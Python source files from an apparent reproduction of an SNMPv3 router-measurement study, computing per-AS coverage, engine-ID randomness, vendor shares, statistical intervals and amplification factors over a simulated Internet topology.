) -> list[AsVendorProfile]:
    """Build profiles from {asn: [vendor per fingerprinted router]}."""
    profiles = []
    for asn, vendors in router_vendor_by_as.items():
        counts: dict[str, int] = {}
        for vendor in vendors:
            counts[vendor] = counts.get(vendor, 0) + 1
        if counts:
            profiles.append(AsVendorProfile(asn=asn, vendor_counts=counts))
    return profiles


def vendors_per_as(
    profiles: "list[AsVendorProfile]", min_routers: int = 1
) -> Ecdf:
    """Figure 14: ECDF of the number of vendors, per minimum AS size."""
    return Ecdf.from_values(
        p.vendor_count for p in profiles if p.router_count >= min_routers
    )


def dominance_values(
    profiles: "list[AsVendorProfile]", min_routers: int = 2
) -> Ecdf:
    """Figure 17: ECDF of vendor dominance, per minimum AS size."""
    return Ecdf.from_values(
        p.dominance for p in profiles if p.router_count >= min_routers
    )
