"""Per-AS SNMPv3 coverage (Figure 10) and combined coverage (§5.4).

Coverage of an AS = responsive SNMPv3 router IPs / all router IPs of that
AS in the union router dataset.  §5.4 additionally quantifies how much
de-aliasing coverage MIDAR and SNMPv3 each achieve alone and combined.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.alias.sets import AliasSets
from repro.analysis.ecdf import Ecdf
from repro.net.addresses import IPAddress
from repro.topology.model import Topology


@dataclass(frozen=True)
class AsCoverage:
    """Per-AS coverage ratios, filterable by minimum dataset size."""

    per_as: dict[int, tuple[int, int]]  # asn -> (responsive, total)

    def ratios(self, min_total: int = 2) -> dict[int, float]:
        return {
            asn: responsive / total
            for asn, (responsive, total) in self.per_as.items()
            if total >= min_total
        }

    def ecdf(self, min_total: int = 2) -> Ecdf:
        return Ecdf.from_values(self.ratios(min_total).values())

    @property
    def overall(self) -> float:
        responsive = sum(r for r, __ in self.per_as.values())
        total = sum(t for __, t in self.per_as.values())
        return responsive / total if total else 0.0


def as_coverage(
    topology: Topology,
    dataset_addresses: "frozenset[IPAddress] | set[IPAddress]",
    responsive_addresses: "set[IPAddress]",
) -> AsCoverage:
    """Compute per-AS coverage of a router dataset by scan responses."""
    per_as: dict[int, list[int]] = {}
    for address in dataset_addresses:
        device = topology.device_of_address(address)
        if device is None:
            continue
        entry = per_as.setdefault(device.asn, [0, 0])
        entry[1] += 1
        if address in responsive_addresses:
            entry[0] += 1
    return AsCoverage(per_as={asn: (r, t) for asn, (r, t) in per_as.items()})


@dataclass(frozen=True)
class CombinedCoverage:
    """§5.4's headline: de-aliased router-IP coverage by technique."""

    total_router_ips: int
    midar_covered: int
    snmpv3_covered: int
    combined_covered: int

    @property
    def midar_fraction(self) -> float:
        return self.midar_covered / self.total_router_ips if self.total_router_ips else 0.0

    @property
    def snmpv3_fraction(self) -> float:
        return self.snmpv3_covered / self.total_router_ips if self.total_router_ips else 0.0

    @property
    def combined_fraction(self) -> float:
        return self.combined_covered / self.total_router_ips if self.total_router_ips else 0.0


def combined_coverage(
    router_ips: "frozenset[IPAddress] | set[IPAddress]",
    midar_sets: AliasSets,
    snmpv3_sets: AliasSets,
) -> CombinedCoverage:
    """Router IPs de-aliased (in a non-singleton set) per technique."""
    midar_ns = {a for g in midar_sets.non_singletons() for a in g}
    snmp_ns = {a for g in snmpv3_sets.non_singletons() for a in g}
    router_set = set(router_ips)
    midar_covered = len(router_set & midar_ns)
    snmp_covered = len(router_set & snmp_ns)
    combined = len(router_set & (midar_ns | snmp_ns))
    return CombinedCoverage(
        total_router_ips=len(router_set),
        midar_covered=midar_covered,
        snmpv3_covered=snmp_covered,
        combined_covered=combined,
    )
