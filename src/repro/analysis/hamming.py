"""Hamming-weight randomness analysis (§4.2, Figure 6).

The paper examines whether Octets-format and non-conforming engine IDs
look randomly generated: a random bit string has a relative Hamming
weight (fraction of '1' bits) binomially concentrated around 0.5, while
structured values skew away.  The paper finds Octets centered at 0.5 and
non-conforming IDs positively skewed (fewer ones than expected).
"""

from __future__ import annotations

from typing import Iterable

from repro.snmp.engine_id import EngineId


def hamming_weight_distribution(
    engine_ids: Iterable[EngineId], data_only: bool = True
) -> list[float]:
    """Relative Hamming weights of *unique* engine IDs.

    ``data_only`` measures the vendor-filled payload, excluding the RFC
    3411 header whose near-constant bits (0x80-flagged enterprise number,
    format byte) would drag every conforming ID below 0.5 regardless of
    how random its payload is.  Non-conforming IDs have no header to
    strip, so their full value is measured either way.
    """
    seen: set[bytes] = set()
    weights: list[float] = []
    for engine_id in engine_ids:
        if not engine_id.raw or engine_id.raw in seen:
            continue
        seen.add(engine_id.raw)
        payload = engine_id.data if (data_only and engine_id.is_conforming) else engine_id.raw
        if not payload:
            continue
        ones = sum(bin(b).count("1") for b in payload)
        weights.append(ones / (len(payload) * 8))
    return weights


def skewness(values: "list[float]") -> float:
    """Sample skewness (Fisher-Pearson).  Positive = right tail / mass
    below the mean pushed left — the paper's non-conforming signature."""
    n = len(values)
    if n < 3:
        raise ValueError("skewness needs at least 3 values")
    mean = sum(values) / n
    m2 = sum((v - mean) ** 2 for v in values) / n
    m3 = sum((v - mean) ** 3 for v in values) / n
    if m2 == 0.0:
        return 0.0
    return m3 / m2**1.5


def mean(values: "list[float]") -> float:
    if not values:
        raise ValueError("mean of no values")
    return sum(values) / len(values)


def histogram(values: "list[float]", bins: int = 20) -> list[tuple[float, float]]:
    """Normalized histogram over [0, 1]: (bin center, fraction)."""
    if bins <= 0:
        raise ValueError("bins must be positive")
    counts = [0] * bins
    for v in values:
        index = min(bins - 1, max(0, int(v * bins)))
        counts[index] += 1
    total = max(1, len(values))
    return [((i + 0.5) / bins, c / total) for i, c in enumerate(counts)]
