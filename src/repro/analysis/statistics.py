"""Statistical rigor for the measured quantities.

The paper reports point estimates (vendor shares, coverage fractions);
a scaled reproduction needs uncertainty estimates to distinguish signal
from small-sample noise.  This module adds:

* **Wilson score intervals** for the proportion claims (share of MAC
  engine IDs, responsive fraction, dominance level fractions);
* **bootstrap confidence intervals** (via numpy resampling) for
  arbitrary statistics over per-entity samples (mean alias-set size,
  median uptime);
* a **two-proportion z-test** for comparing fractions across scans or
  configurations (e.g. did a mitigation change responsiveness?).
"""

from __future__ import annotations

import math
from dataclasses import dataclass
from typing import Callable

import numpy as np
from scipy import stats as sps


@dataclass(frozen=True)
class ProportionEstimate:
    """A fraction with its Wilson score interval."""

    successes: int
    trials: int
    low: float
    high: float

    @property
    def point(self) -> float:
        return self.successes / self.trials if self.trials else 0.0

    def __str__(self) -> str:
        return f"{self.point:.3f} [{self.low:.3f}, {self.high:.3f}]"


def wilson_interval(successes: int, trials: int, confidence: float = 0.95) -> ProportionEstimate:
    """Wilson score interval — well-behaved for small n and extreme p."""
    if trials < 0 or successes < 0 or successes > trials:
        raise ValueError(f"invalid counts: {successes}/{trials}")
    if trials == 0:
        return ProportionEstimate(0, 0, 0.0, 1.0)
    z = float(sps.norm.ppf(0.5 + confidence / 2))
    p = successes / trials
    denom = 1 + z**2 / trials
    center = (p + z**2 / (2 * trials)) / denom
    margin = (z / denom) * math.sqrt(p * (1 - p) / trials + z**2 / (4 * trials**2))
    return ProportionEstimate(
        successes=successes,
        trials=trials,
        low=max(0.0, center - margin),
        high=min(1.0, center + margin),
    )


@dataclass(frozen=True)
class BootstrapEstimate:
    """A statistic with its bootstrap percentile interval."""

    point: float
    low: float
    high: float
    resamples: int

    def __str__(self) -> str:
        return f"{self.point:.3f} [{self.low:.3f}, {self.high:.3f}]"


def bootstrap_interval(
    values: "list[float]",
    statistic: "Callable[[np.ndarray], float]" = np.mean,
    confidence: float = 0.95,
    resamples: int = 2000,
    seed: int = 7,
) -> BootstrapEstimate:
    """Percentile bootstrap for an arbitrary statistic."""
    if not values:
        raise ValueError("bootstrap needs at least one value")
    rng = np.random.default_rng(seed)
    data = np.asarray(values, dtype=float)
    estimates = np.empty(resamples)
    for i in range(resamples):
        estimates[i] = statistic(rng.choice(data, size=len(data), replace=True))
    alpha = (1 - confidence) / 2
    return BootstrapEstimate(
        point=float(statistic(data)),
        low=float(np.quantile(estimates, alpha)),
        high=float(np.quantile(estimates, 1 - alpha)),
        resamples=resamples,
    )


@dataclass(frozen=True)
class ProportionComparison:
    """Two-proportion z-test result."""

    p1: float
    p2: float
    z_score: float
    p_value: float

    def significant(self, alpha: float = 0.05) -> bool:
        return self.p_value < alpha


def compare_proportions(
    successes1: int, trials1: int, successes2: int, trials2: int
) -> ProportionComparison:
    """Two-sided two-proportion z-test (pooled standard error)."""
    if trials1 <= 0 or trials2 <= 0:
        raise ValueError("both samples need at least one trial")
    p1 = successes1 / trials1
    p2 = successes2 / trials2
    pooled = (successes1 + successes2) / (trials1 + trials2)
    se = math.sqrt(pooled * (1 - pooled) * (1 / trials1 + 1 / trials2))
    if se == 0.0:
        return ProportionComparison(p1=p1, p2=p2, z_score=0.0, p_value=1.0)
    z = (p1 - p2) / se
    p_value = 2 * float(sps.norm.sf(abs(z)))
    return ProportionComparison(p1=p1, p2=p2, z_score=z, p_value=p_value)


def vendor_share_intervals(
    counts: "dict[str, int]", confidence: float = 0.95
) -> dict[str, ProportionEstimate]:
    """Wilson intervals for every vendor's share of a census."""
    total = sum(counts.values())
    return {
        vendor: wilson_interval(count, total, confidence)
        for vendor, count in counts.items()
    }
