"""Amplification-vector analysis (§8).

SNMPv3 runs over UDP, so sources are spoofable, and some buggy agents
answer one synchronization request with *many* identical replies — the
paper observed a single address returning 48.5 million responses.  This
module quantifies the reflection/amplification potential of a scanned
population:

* **bandwidth amplification factor (BAF)** — reply bytes per probe byte,
  the standard amplification metric (Rossow, NDSS 2014);
* **packet amplification factor (PAF)** — replies per probe;
* the distribution of both across responders, and the contribution of
  the multi-responder tail.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.analysis.ecdf import Ecdf
from repro.scanner.records import ScanResult


@dataclass(frozen=True)
class AmplificationReport:
    """Population-level amplification statistics for one scan."""

    responders: int
    probe_bytes: int
    reply_bytes: int
    paf_ecdf: Ecdf
    baf_ecdf: Ecdf
    worst_paf: float
    worst_baf: float
    multi_responder_reply_share: float

    @property
    def mean_baf(self) -> float:
        if self.probe_bytes == 0:
            return 0.0
        return self.reply_bytes / self.probe_bytes

    def headline(self) -> str:
        return (
            f"{self.responders} responders; mean BAF {self.mean_baf:.2f}, "
            f"worst responder: {self.worst_paf:.0f} packets / "
            f"{self.worst_baf:.1f}x bytes per probe; multi-responders "
            f"contribute {self.multi_responder_reply_share:.1%} of reply bytes"
        )


def analyze_amplification(scan: ScanResult, probe_size: "int | None" = None) -> AmplificationReport:
    """Compute amplification statistics from a captured scan.

    ``probe_size`` defaults to the average probe wire size of the scan.
    Per-responder reply volume is reconstructed from the observation's
    reply count and wire size (identical replies, as captured).
    """
    if probe_size is None:
        probe_size = (
            scan.probe_bytes_sent // scan.targets_probed if scan.targets_probed else 0
        )
    pafs = []
    bafs = []
    multi_bytes = 0
    total_reply_bytes = 0
    for obs in scan.observations.values():
        reply_bytes = obs.wire_bytes * obs.response_count
        total_reply_bytes += reply_bytes
        pafs.append(float(obs.response_count))
        bafs.append(reply_bytes / probe_size if probe_size else 0.0)
        if obs.response_count > 1:
            multi_bytes += reply_bytes
    return AmplificationReport(
        responders=scan.responsive_count,
        probe_bytes=probe_size * scan.responsive_count,
        reply_bytes=total_reply_bytes,
        paf_ecdf=Ecdf.from_values(pafs) if pafs else Ecdf(values=()),
        baf_ecdf=Ecdf.from_values(bafs) if bafs else Ecdf(values=()),
        worst_paf=max(pafs, default=0.0),
        worst_baf=max(bafs, default=0.0),
        multi_responder_reply_share=(
            multi_bytes / total_reply_bytes if total_reply_bytes else 0.0
        ),
    )
