"""Vendor / deployment figures: 10–18 and 20, plus §6.2.3 and §8.

Everything downstream of fingerprinting: vendor popularity bars, per-AS
coverage, uptime CDF, vendors-per-AS, regional market shares, top-10
networks, vendor dominance, the Nmap comparison, and the amplification
observation.
"""

from __future__ import annotations

import random
from collections import Counter
from dataclasses import dataclass

from repro.analysis.coverage import AsCoverage, as_coverage
from repro.analysis.dominance import (
    AsVendorProfile,
    as_vendor_profiles,
    dominance_values,
    vendors_per_as,
)
from repro.analysis.ecdf import Ecdf
from repro.analysis.regional import (
    TopNetwork,
    regional_dominance,
    regional_router_counts,
    regional_vendor_shares,
    routers_per_as_by_region,
    top_networks_vendor_mix,
)
from repro.experiments.context import ExperimentContext
from repro.fingerprint.nmap import NmapEngine, NmapOutcome
from repro.fingerprint.vendor import VendorInference
from repro.fingerprint.uptime import UptimeStatistics, uptime_statistics
from repro.topology.model import Region


# -- Figure 10: SNMPv3 coverage per AS -------------------------------------------


@dataclass(frozen=True)
class Figure10:
    coverage: AsCoverage
    thresholds: tuple[int, ...] = (2, 5, 10, 50, 100)

    def ecdfs(self) -> dict[int, Ecdf]:
        return {t: self.coverage.ecdf(min_total=t) for t in self.thresholds
                if self.coverage.ratios(min_total=t)}


def figure10(ctx: ExperimentContext) -> Figure10:
    return Figure10(
        coverage=as_coverage(
            ctx.topology, ctx.datasets.union_v4, ctx.responsive_router_ips_v4
        )
    )


# -- Figures 11 / 12: vendor popularity bars ------------------------------------------


@dataclass(frozen=True)
class VendorPopularity:
    """Vendor histogram with the per-protocol split of the bar charts."""

    counts: dict[str, int]
    by_protocol: dict[str, dict[str, int]]  # vendor -> {v4, v6, dual}

    def top(self, n: int = 10) -> list[tuple[str, int]]:
        return Counter(self.counts).most_common(n)

    def top_n_share(self, n: int = 10) -> float:
        total = sum(self.counts.values())
        if total == 0:
            return 0.0
        return sum(c for __, c in self.top(n)) / total

    def count(self, vendor: str) -> int:
        return self.counts.get(vendor, 0)


def _popularity(
    sets_with_vendors: "list[tuple[frozenset, VendorInference]]",
) -> VendorPopularity:
    counts: dict[str, int] = {}
    by_protocol: dict[str, dict[str, int]] = {}
    for group, verdict in sets_with_vendors:
        vendor = verdict.vendor
        counts[vendor] = counts.get(vendor, 0) + 1
        versions = {a.version for a in group}
        kind = "dual" if versions == {4, 6} else ("v4" if versions == {4} else "v6")
        bucket = by_protocol.setdefault(vendor, {"v4": 0, "v6": 0, "dual": 0})
        bucket[kind] += 1
    return VendorPopularity(counts=counts, by_protocol=by_protocol)


def figure11(ctx: ExperimentContext) -> VendorPopularity:
    """Device-level vendor popularity (all de-aliased alias sets)."""
    return _popularity(ctx.device_vendors)


def figure12(ctx: ExperimentContext) -> VendorPopularity:
    """Router-level vendor popularity."""
    return _popularity(ctx.router_vendors)


# -- Figure 13: time since last reboot -----------------------------------------------------


def figure13(ctx: ExperimentContext) -> UptimeStatistics:
    return uptime_statistics(ctx.router_last_reboots)


def figure13_ecdf(ctx: ExperimentContext) -> Ecdf:
    return Ecdf.from_values(ctx.router_last_reboots)


def figure13_by_vendor(ctx: ExperimentContext, min_routers: int = 5) -> dict[str, UptimeStatistics]:
    """Patch hygiene per vendor: §6.3's uptime analysis, broken down.

    A vendor whose routers run un-rebooted for years is a vendor whose
    deployed fleet likely misses security updates — the per-vendor view
    an operator (or attacker) derives immediately from Figures 12+13.
    """
    reboots_by_vendor: dict[str, list[float]] = {}
    for group, verdict in ctx.router_vendors:
        for address in group:
            record = ctx.record_by_address.get(address)
            if record is not None:
                reboots_by_vendor.setdefault(verdict.vendor, []).append(
                    record.last_reboot_time
                )
                break
    return {
        vendor: uptime_statistics(reboots)
        for vendor, reboots in reboots_by_vendor.items()
        if len(reboots) >= min_routers
    }


# -- Figures 14 / 17: per-AS vendor structure ------------------------------------------------


def _profiles(ctx: ExperimentContext) -> list[AsVendorProfile]:
    return as_vendor_profiles(ctx.router_vendor_by_as)


@dataclass(frozen=True)
class Figure14:
    ecdf_by_min_routers: dict[int, Ecdf]

    def single_vendor_fraction(self, min_routers: int) -> float:
        return self.ecdf_by_min_routers[min_routers].at(1.0)


def figure14(ctx: ExperimentContext,
             thresholds: tuple[int, ...] = (1, 5, 20, 100)) -> Figure14:
    profiles = _profiles(ctx)
    return Figure14(
        ecdf_by_min_routers={
            t: vendors_per_as(profiles, min_routers=t)
            for t in thresholds
            if any(p.router_count >= t for p in profiles)
        }
    )


@dataclass(frozen=True)
class Figure17:
    ecdf_by_min_routers: dict[int, Ecdf]

    def high_dominance_fraction(self, min_routers: int, level: float = 0.7) -> float:
        """Paper: >80% of ASes have dominance >= 0.7."""
        return self.ecdf_by_min_routers[min_routers].fraction_at_least(level)


def figure17(ctx: ExperimentContext,
             thresholds: tuple[int, ...] = (2, 5, 10, 50, 100)) -> Figure17:
    profiles = _profiles(ctx)
    return Figure17(
        ecdf_by_min_routers={
            t: dominance_values(profiles, min_routers=t)
            for t in thresholds
            if any(p.router_count >= t for p in profiles)
        }
    )


# -- Figures 15 / 16 / 18 / 20: regional views ------------------------------------------------------


@dataclass(frozen=True)
class Figure15:
    shares: dict[Region, dict[str, float]]
    totals: dict[Region, int]

    def share(self, region: Region, vendor: str) -> float:
        return self.shares.get(region, {}).get(vendor, 0.0)


def figure15(ctx: ExperimentContext) -> Figure15:
    profiles = _profiles(ctx)
    return Figure15(
        shares=regional_vendor_shares(ctx.topology, profiles),
        totals=regional_router_counts(ctx.topology, profiles),
    )


def figure16(ctx: ExperimentContext, n: int = 10) -> list[TopNetwork]:
    return top_networks_vendor_mix(ctx.topology, _profiles(ctx), n=n)


def figure18(ctx: ExperimentContext, min_routers: int = 10) -> dict[Region, Ecdf]:
    return regional_dominance(ctx.topology, _profiles(ctx), min_routers=min_routers)


def figure20(ctx: ExperimentContext) -> dict[Region, Ecdf]:
    return routers_per_as_by_region(ctx.topology, _profiles(ctx))


# -- §6.2.3: Nmap comparison -----------------------------------------------------------------------------


@dataclass(frozen=True)
class Section62:
    """Outcome histogram of Nmap over sampled router IPs vs SNMPv3 truth."""

    sampled: int
    no_result: int
    matches: int
    agreeing_matches: int
    guesses: int
    disagreeing_guesses: int
    nmap_probes_total: int
    snmpv3_probes_total: int

    @property
    def no_result_fraction(self) -> float:
        """Paper: 22.2k of 26.4k -> ~84%."""
        return self.no_result / self.sampled if self.sampled else 0.0


def section62(ctx: ExperimentContext, seed: int = 0x62) -> Section62:
    """Sample one IP per router alias set, run Nmap, compare vendors."""
    rng = random.Random(seed ^ ctx.topology.seed)
    engine = NmapEngine(ctx.topology)
    sampled = 0
    no_result = 0
    matches = 0
    agreeing = 0
    guesses = 0
    disagreeing = 0
    probes = 0
    for group, verdict in ctx.router_vendors:
        v4 = [a for a in group if a.version == 4]
        if not v4:
            continue
        address = rng.choice(sorted(v4, key=int))
        result = engine.fingerprint(address)
        sampled += 1
        probes += result.probes_sent
        if result.outcome is NmapOutcome.NO_RESULT:
            no_result += 1
        elif result.outcome is NmapOutcome.MATCH:
            matches += 1
            if result.vendor == verdict.vendor:
                agreeing += 1
        else:
            guesses += 1
            if result.vendor != verdict.vendor:
                disagreeing += 1
    return Section62(
        sampled=sampled,
        no_result=no_result,
        matches=matches,
        agreeing_matches=agreeing,
        guesses=guesses,
        disagreeing_guesses=disagreeing,
        nmap_probes_total=probes,
        snmpv3_probes_total=sampled,  # one probe per target
    )


# -- §8: amplification observation ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Section8:
    """Multi-response statistics from the first IPv4 scan."""

    responsive_ips: int
    multi_response_ips: int
    max_responses_single_ip: int

    @property
    def multi_response_fraction(self) -> float:
        """Paper: ~0.6% of responding IPv4 addresses."""
        if self.responsive_ips == 0:
            return 0.0
        return self.multi_response_ips / self.responsive_ips


def section8(ctx: ExperimentContext) -> Section8:
    scan1, __ = ctx.campaign.scan_pair(4)
    counts = scan1.multi_responders.values()
    return Section8(
        responsive_ips=scan1.responsive_count,
        multi_response_ips=len(scan1.multi_responders),
        max_responses_single_ip=max(counts, default=0),
    )
