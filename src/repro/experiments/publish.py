"""Publish figure/table data as CSV — the snmpv3.io companion artifacts.

The paper maintains "regularly updated graphs of aggregated results at
https://snmpv3.io".  This module writes every figure's plottable series
and every table's rows into a directory of CSV files, so the aggregated
(and, per §3.3, anonymized — only simulated entities appear here) results
can be regenerated and diffed across measurement runs.
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Iterable, Sequence

from repro.analysis.ecdf import Ecdf
from repro.experiments import figures_alias as fa
from repro.experiments import figures_engine as fe
from repro.experiments import figures_vendor as fv
from repro.experiments import tables
from repro.experiments.context import ExperimentContext
from repro.snmp.engine_id import EngineIdFormat


def _write(path: Path, header: "list[str]", rows: "Iterable[Sequence[str]]") -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)


def _ecdf_rows(ecdf: Ecdf) -> list[tuple[str, str]]:
    return [(f"{x:.6g}", f"{y:.6f}") for x, y in ecdf.series()]


def publish_all(ctx: ExperimentContext, out_dir: "str | Path") -> list[str]:
    """Write every figure/table artifact; returns the file names written."""
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    written: list[str] = []

    def emit(name: str, header: "list[str]", rows: "Iterable[Sequence[str]]") -> None:
        _write(out / name, header, rows)
        written.append(name)

    # Tables.
    t1 = tables.table1(ctx)
    emit("table1.csv",
         ["scan", "responsive_ips", "unique_engine_ids", "valid_engine_id",
          "valid_engine_id_time"],
         [(r.label, r.responsive_ips, r.unique_engine_ids,
           r.valid_engine_id_ips, r.valid_engine_id_time_ips) for r in t1.rows])
    t2 = tables.table2(ctx)
    emit("table2.csv",
         ["dataset", "ipv4", "ipv4_snmpv3", "ipv6", "ipv6_snmpv3"],
         [(r.dataset, r.ipv4_addresses, r.ipv4_snmpv3,
           r.ipv6_addresses, r.ipv6_snmpv3) for r in t2.rows])
    t3 = tables.table3(ctx)
    emit("table3.csv",
         ["variant", "alias_sets", "non_singletons", "ips_in_non_singletons",
          "ips_per_non_singleton"],
         [(r.variant, r.alias_sets, r.non_singleton_sets,
           r.ips_in_non_singletons, f"{r.ips_per_non_singleton:.2f}")
          for r in t3.rows])

    # ECDF figures.
    f4 = fe.figure4(ctx)
    emit("fig04_ips_per_engine_id_v4.csv", ["x", "cdf"], _ecdf_rows(f4.ecdf_v4))
    emit("fig04_ips_per_engine_id_v6.csv", ["x", "cdf"], _ecdf_rows(f4.ecdf_v6))

    f5 = fe.figure5(ctx)
    emit("fig05_engine_id_formats.csv",
         ["format", "ipv4_share", "ipv6_share"],
         [(fmt.value, f"{f5.shares_v4.get(fmt, 0.0):.4f}",
           f"{f5.shares_v6.get(fmt, 0.0):.4f}") for fmt in EngineIdFormat])

    f6 = fe.figure6(ctx)
    emit("fig06_hamming_octets.csv", ["relative_weight"],
         [(f"{w:.4f}",) for w in sorted(f6.octets_weights)])
    emit("fig06_hamming_nonconforming.csv", ["relative_weight"],
         [(f"{w:.4f}",) for w in sorted(f6.non_conforming_weights)])

    f8 = fe.figure8(ctx)
    for name, ecdf in (("v4_all", f8.all_v4), ("v4_routers", f8.routers_v4),
                       ("v6_all", f8.all_v6), ("v6_routers", f8.routers_v6)):
        emit(f"fig08_reboot_delta_{name}.csv", ["seconds", "cdf"], _ecdf_rows(ecdf))

    f9 = fa.figure9(ctx)
    emit("fig09_alias_set_sizes_v4.csv", ["size", "cdf"], _ecdf_rows(f9.ipv4_sets))
    emit("fig09_alias_set_sizes_routers.csv", ["size", "cdf"],
         _ecdf_rows(f9.router_sets))

    f10 = fv.figure10(ctx)
    emit("fig10_coverage_per_as.csv", ["asn", "responsive", "total"],
         [(asn, r, t) for asn, (r, t) in sorted(f10.coverage.per_as.items())])

    for name, pop in (("fig11_device_vendors", fv.figure11(ctx)),
                      ("fig12_router_vendors", fv.figure12(ctx))):
        emit(f"{name}.csv", ["vendor", "v4_only", "v6_only", "dual", "total"],
             [(vendor,
               pop.by_protocol[vendor]["v4"], pop.by_protocol[vendor]["v6"],
               pop.by_protocol[vendor]["dual"], count)
              for vendor, count in pop.top(10_000)])

    emit("fig13_last_reboot_times.csv", ["unix_time"],
         [(f"{t:.0f}",) for t in sorted(ctx.router_last_reboots)])

    f15 = fv.figure15(ctx)
    emit("fig15_regional_shares.csv",
         ["region", "vendor", "share", "routers_in_region"],
         [(region.value, vendor, f"{share:.4f}", f15.totals.get(region, 0))
          for region, shares in sorted(f15.shares.items(), key=lambda kv: kv[0].value)
          for vendor, share in shares.items()])

    emit("fig16_top_networks.csv",
         ["region", "asn", "routers", "dominant_vendor"],
         [(row.region.value, row.asn, row.router_count, row.dominant_vendor)
          for row in fv.figure16(ctx)])

    f17 = fv.figure17(ctx)
    for threshold, ecdf in f17.ecdf_by_min_routers.items():
        emit(f"fig17_dominance_min{threshold}.csv", ["dominance", "cdf"],
             _ecdf_rows(ecdf))

    return written
