"""Lab validation (§6.2.1): controlled router experiments.

Reproduces the paper's testbed findings on Cisco IOS / IOS XR and Juniper
Junos:

1. out of the box, a router answers neither SNMPv2c nor SNMPv3;
2. configuring *only* a v2c read community (``snmp-server community
   pass123 RO``) makes v2c work — **and silently enables SNMPv3
   discovery**;
3. an unauthenticated v3 query with an unknown user is rejected — but the
   rejection Report carries a MAC-based engine ID;
4. the engine ID is the same no matter which interface IP is queried, and
   corresponds to the router's *first* interface (not the numerically
   smallest MAC).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.asn1.oid import Oid
from repro.net.mac import MacAddress
from repro.oui.registry import default_registry
from repro.snmp.agent import AgentBehavior, SnmpAgent
from repro.snmp.client import SnmpClient
from repro.snmp.constants import OID_SYS_DESCR
from repro.snmp.engine_id import EngineId
from repro.snmp.mib import build_system_mib


@dataclass
class LabRouter:
    """A bench router with several interfaces and vendor-default SNMP."""

    name: str
    vendor: str
    sys_descr: str
    interface_macs: list[MacAddress]
    agent: SnmpAgent

    @classmethod
    def build(cls, name: str, vendor: str, sys_descr: str, enterprise: int,
              first_mac: MacAddress, n_interfaces: int = 4) -> "LabRouter":
        # Interface MACs are consecutive but deliberately NOT sorted so the
        # "first interface, not smallest MAC" observation is testable: give
        # the first interface a mid-range MAC.
        macs = [first_mac.successor(i) for i in (2, 0, 1, 3)][:n_interfaces]
        agent = SnmpAgent(
            engine_id=EngineId.from_mac(enterprise, macs[0]),
            boot_time=0.0,
            engine_boots=1,
            behavior=AgentBehavior(v3_enabled=False, v3_enabled_by_community=True),
            mib=build_system_mib(sys_descr, name, Oid("1.3.6.1.4.1.9.1.1"),
                                 lambda: 0.0),
        )
        return cls(
            name=name,
            vendor=vendor,
            sys_descr=sys_descr,
            interface_macs=macs,
            agent=agent,
        )

    def configure_community(self, community: bytes) -> None:
        """The single config line: ``snmp-server community <c> RO``."""
        self.agent.communities.add(community)

    @property
    def engine_mac(self) -> MacAddress:
        return self.agent.engine_id.mac


@dataclass(frozen=True)
class LabReport:
    """Findings of the lab run for one router."""

    router: str
    answers_before_config: bool
    v2c_works_after_config: bool
    v3_discovery_after_config: bool
    engine_id_is_mac: bool
    engine_mac_vendor: "str | None"
    same_engine_id_on_all_interfaces: bool
    engine_mac_is_first_interface: bool
    engine_mac_is_smallest: bool


def run_lab_experiment(router: LabRouter, community: bytes = b"pass123") -> LabReport:
    """Execute the §6.2.1 protocol against one lab router."""
    client = SnmpClient(agent=router.agent)

    # 1. Factory state: silence on both protocol versions.
    before_v2c = client.get_v2c(community, OID_SYS_DESCR)
    before_v3 = client.discover(now=10.0)
    answers_before = before_v2c is not None or before_v3 is not None

    # 2. One line of v2c configuration.
    router.configure_community(community)
    after_v2c = client.get_v2c(community, OID_SYS_DESCR)

    # 3. The unauthenticated v3 query: rejected, yet leaking the engine ID.
    value, engine_id_raw = client.get_v3_noauth(b"noAuthUser", OID_SYS_DESCR, now=20.0)
    discovery = client.discover(now=20.0)

    engine_id = EngineId(engine_id_raw) if engine_id_raw else None
    engine_mac = engine_id.mac if engine_id is not None else None

    # 4. Query "each interface": the agent is interface-agnostic by
    # construction, mirroring the observed behaviour; verify the reported
    # MAC against the interface plan.
    same_everywhere = all(
        client.discover(now=30.0 + i).engine_id == engine_id_raw
        for i in range(len(router.interface_macs))
    )

    return LabReport(
        router=router.name,
        answers_before_config=answers_before,
        v2c_works_after_config=after_v2c == router.sys_descr.encode(),
        v3_discovery_after_config=discovery is not None and value is None,
        engine_id_is_mac=engine_mac is not None,
        engine_mac_vendor=(
            default_registry().vendor_of(engine_mac) if engine_mac else None
        ),
        same_engine_id_on_all_interfaces=same_everywhere,
        engine_mac_is_first_interface=engine_mac == router.interface_macs[0],
        engine_mac_is_smallest=engine_mac == min(router.interface_macs),
    )


def default_lab() -> list[LabRouter]:
    """The paper's bench: two Cisco images and one Juniper."""
    registry = default_registry()
    return [
        LabRouter.build(
            "cisco-ios-15.2", "Cisco", "Cisco IOS Software, Version 15.2(4)S7",
            enterprise=9, first_mac=registry.make_mac("Cisco", 0, 0x1000),
        ),
        LabRouter.build(
            "cisco-iosxr-6.0.1", "Cisco", "Cisco IOS XR Software, Version 6.0.1",
            enterprise=9, first_mac=registry.make_mac("Cisco", 1, 0x2000),
        ),
        LabRouter.build(
            "juniper-junos-17.3", "Juniper", "Juniper Networks JUNOS 17.3",
            enterprise=2636, first_mac=registry.make_mac("Juniper", 0, 0x3000),
        ),
    ]
