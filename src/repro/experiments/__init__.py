"""Experiment reproductions: one module per paper table/figure group.

:class:`repro.experiments.context.ExperimentContext` runs the full
measurement pipeline once (topology → scans → filters → alias sets →
fingerprints) and caches every intermediate; the table/figure functions
are cheap projections over it.  ``repro.experiments.report`` renders the
whole evaluation as text — the benchmark harness prints the same rows and
series the paper reports.
"""

from repro.experiments.context import ExperimentContext

__all__ = ["ExperimentContext"]
