"""The shared experiment context.

Builds the simulated Internet, runs the four scan campaigns, the
filtering pipeline, alias resolution (single-family and dual-stack), and
vendor fingerprinting — once.  Every table/figure module projects from
the cached results, mirroring how the paper derives all of its evaluation
from the same two scan pairs.
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import cached_property

from repro.alias.sets import AliasSets
from repro.alias.snmpv3 import resolve_aliases, resolve_dual_stack
